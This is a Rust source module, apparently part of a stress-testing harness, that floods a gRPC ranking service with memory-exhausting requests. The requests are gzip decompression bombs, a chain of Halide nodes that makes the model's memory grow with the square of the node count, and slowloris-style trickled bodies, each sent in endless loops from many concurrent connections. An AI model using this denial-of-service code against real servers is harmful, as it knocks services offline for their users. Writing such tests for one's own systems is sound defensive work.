//! Messages that take a server far more memory than their sender, sent again and again.

use std::{io::Read as _, time::Duration};

use flate2::{Compression, read::GzEncoder};
use prost::bytes::Bytes;
use tokio::time::sleep;

use super::{
    attack::{Aim, Attack},
    calls::RANK,
    messages::{Shape, chain_of_halide, framed, readable_batch},
};

/// A framed message, and its compression.
#[derive(Clone, Debug)]
pub struct Bomb {
    /// `gzip` or `identity`, as in `grpc-encoding`.
    pub encoding: &'static str,
    /// The message as it is in the body of a call.
    pub message: Bytes,
}

/// HTTP/2 window of answers, which are errors.
const WINDOW_BYTES: u32 = 64 << 10;

impl Bomb {
    /// Returns a batch of this size once it is decompressed.
    #[must_use]
    pub fn plain(shape: Shape, bytes: usize) -> Self {
        Self::of(&readable_batch(shape, bytes))
    }

    /// Like [`plain`](Self::plain), compressed with gzip.
    #[must_use]
    pub fn gzip(shape: Shape, bytes: usize) -> Self {
        Self::compressed(&readable_batch(shape, bytes))
    }

    /// Returns a request about a chain of this many nodes of Halide's feature set, over which a run of its model takes memory
    /// that grows with the square of the nodes.
    #[must_use]
    pub fn chain(nodes: usize) -> Self {
        Self::compressed(&chain_of_halide(nodes))
    }

    /// Returns a message as it is.
    #[must_use]
    pub fn of(message: &[u8]) -> Self {
        Self {
            encoding: "identity",
            message: framed(message, false),
        }
    }

    fn compressed(message: &[u8]) -> Self {
        let mut compressed = Vec::new();
        GzEncoder::new(message, Compression::best())
            .read_to_end(&mut compressed)
            .expect("a vector grows");
        Self {
            encoding: "gzip",
            message: framed(&compressed, true),
        }
    }
}

/// Sends bombs, one after the other on each connection, with a pause between them.
#[must_use]
pub fn bombs(aim: &Aim, attackers: usize, bombs: Vec<Bomb>, pause: Duration) -> Attack {
    Attack::start(aim, attackers, move |attacker| {
        let bombs = bombs.clone();
        async move {
            let mut client = attacker.client(WINDOW_BYTES).await?;
            for bomb in bombs.into_iter().cycle() {
                client.call(RANK, bomb.encoding, bomb.message).await?;
                sleep(pause).await;
            }
            Ok(())
        }
    })
}

/// Sends one bomb after the other in pieces, as a slow network would.
#[must_use]
pub fn slow_bombs(aim: &Aim, attackers: usize, bomb: Bomb, bytes_per_second: usize) -> Attack {
    const PIECES_PER_SECOND: usize = 10;
    const PAUSE: Duration = Duration::from_millis(100);
    Attack::start(aim, attackers, move |attacker| {
        let Bomb { encoding, message } = bomb.clone();
        async move {
            let mut client = attacker.client(WINDOW_BYTES).await?;
            loop {
                let (response, mut body) = client.begin(RANK, encoding).await?;
                for piece in message.chunks((bytes_per_second / PIECES_PER_SECOND).max(1)) {
                    body.send_data(Bytes::copy_from_slice(piece), false)?;
                    sleep(PAUSE).await;
                }
                body.send_data(Bytes::new(), true)?;
                super::attacker::status(response).await?;
            }
        }
    })
}
